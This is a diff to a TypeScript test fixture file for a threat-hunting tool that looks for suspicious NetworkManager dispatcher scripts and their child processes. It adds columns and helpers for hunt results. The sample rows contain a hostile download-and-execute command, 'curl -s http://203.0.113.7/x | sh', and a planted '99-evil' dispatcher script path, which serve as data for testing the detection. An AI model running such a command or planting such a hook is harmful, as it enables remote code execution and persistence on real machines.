@@ -6,8 +6,7 @@ const TYPES: Record<string, string> = {
   agent_count: 'long',
   first_seen: 'date',
   last_seen: 'date',
-  host_names: 'keyword',
-  agent_ids: 'keyword',
+  rare_groups: 'long',
 };
 
 /** Builds a `_query` response from row objects, with the columns in the given order. */
@@ -19,19 +18,19 @@ export function responseFor(columnOrder: string[], rows: Record<string, unknown>
   );
 }
 
-export const CHILD_COLUMNS = ['event_count', 'agent_count', 'first_seen', 'last_seen', 'host_names', 'agent_ids', 'process.parent.executable', 'process.executable', 'process.command_line'];
-export const WRITE_COLUMNS = ['event_count', 'agent_count', 'first_seen', 'last_seen', 'host_names', 'agent_ids', 'file.path', 'process.executable'];
+const STATS = ['event_count', 'agent_count', 'first_seen', 'last_seen'];
+export const CHILD_COLUMNS = [...STATS, 'parent_script', 'process.executable', 'masked_command_line'];
+export const WRITE_COLUMNS = [...STATS, 'file.path', 'process.executable'];
+export const WRITE_SAMPLE_COLUMNS = ['file.path', 'process.executable', 'event_count', 'agent_count', 'agent_hosts', 'host_names', 'agent_ids', 'hashes', 'writer_command_lines', 'users'];
 
 export const childRow = (over: Record<string, unknown> = {}) => ({
   event_count: 2,
   agent_count: 1,
   first_seen: '2026-11-20T01:02:03.000Z',
   last_seen: '2026-11-24T01:02:03.000Z',
-  host_names: 'web-01',
-  agent_ids: 'agent-1',
-  'process.parent.executable': '/etc/NetworkManager/dispatcher.d/99-evil',
+  parent_script: '/etc/NetworkManager/dispatcher.d/99-evil',
   'process.executable': '/usr/bin/curl',
-  'process.command_line': 'curl -s http://203.0.113.7/x | sh',
+  masked_command_line: 'curl -s http://203.0.113.7/x | sh',
   ...over,
 });
 
@@ -40,9 +39,33 @@ export const writeRow = (over: Record<string, unknown> = {}) => ({
   agent_count: 1,
   first_seen: '2026-11-24T01:00:00.000Z',
   last_seen: '2026-11-24T01:00:00.000Z',
-  host_names: ['web-01'],
-  agent_ids: ['agent-1'],
   'file.path': '/etc/NetworkManager/dispatcher.d/99-evil',
   'process.executable': '/usr/bin/bash',
   ...over,
 });
+
+export const writeSamples = (over: Record<string, unknown> = {}) => ({
+  ...writeRow(),
+  agent_hosts: 'agent-1\u0000web-01',
+  host_names: 'web-01',
+  agent_ids: 'agent-1',
+  hashes: null,
+  writer_command_lines: null,
+  users: 'root',
+  ...over,
+});
+
+/** A recorded rare group of the write hunt, with the samples phase 2 returns (see answerFromRecordedGroups). */
+export const writeGroup = (path: string, writer: string | null, over: Record<string, unknown> = {}) => ({
+  ...writeSamples({ 'file.path': path, 'process.executable': writer }),
+  agent_hosts: ['agent-1\u0000web-01'],
+  host_names: ['web-01'],
+  agent_ids: ['agent-1'],
+  hashes: [],
+  writer_command_lines: [],
+  users: ['root'],
+  ...over,
+});
+
+/** A recorded rare group of the child hunt, with its samples. */
+export const childGroup = (over: Record<string, unknown> = {}) => ({ ...childRow(), host_names: ['web-01'], agent_ids: ['agent-1'], command_lines: ['curl -s http://203.0.113.7/x | sh'], ...over });
